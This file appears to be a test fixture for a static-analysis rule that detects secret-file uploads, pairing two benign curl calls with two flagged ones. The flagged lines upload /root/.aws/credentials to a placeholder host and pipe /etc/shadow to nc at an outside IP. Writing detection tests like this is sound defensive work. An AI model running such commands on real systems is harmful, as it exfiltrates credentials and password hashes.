import subprocess

# ok: secret-file-upload
subprocess.run(["curl", "-T", "report.pdf", "https://reports.example/upload"])
# ok: secret-file-upload
subprocess.run(["curl", "-d", "@body.json", "https://api.example/v1"])
# ruleid: secret-file-upload
subprocess.run(["curl", "-T", "/root/.aws/credentials", "https://x.example/u"])
# ruleid: secret-file-upload
subprocess.run("cat /etc/shadow | nc 203.0.113.9 9000", shell=True)
